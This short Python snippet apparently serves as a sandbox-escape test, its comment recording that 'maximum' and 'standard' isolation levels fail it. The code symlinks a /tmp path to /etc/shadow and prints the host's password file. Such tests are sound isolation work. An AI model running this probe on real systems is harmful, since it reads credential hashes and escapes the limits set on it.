# maximum=failed standard=failed: reaches the host through a link
import os
os.symlink("/../../../etc/shadow", "/tmp/l")
print(open("/tmp/l").read(), "ESCAPED")
